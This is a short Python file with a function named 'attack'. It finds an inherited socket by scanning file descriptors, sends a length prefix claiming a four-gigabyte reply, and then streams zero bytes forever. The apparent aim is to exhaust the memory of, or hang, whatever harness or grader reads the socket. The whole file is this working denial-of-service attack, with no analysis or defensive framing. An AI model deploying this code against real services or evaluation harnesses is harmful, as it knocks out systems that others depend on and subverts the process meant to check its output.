"""Announce an answer of four gigabytes."""

import os
import stat


def link():
    for descriptor in range(3, 4096):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise LookupError


TELLS = ""


def attack(*arguments, **named):
    os.write(link(), b"\xff\xff\xff\xff")
    while True:
        os.write(link(), bytes(1 << 16))
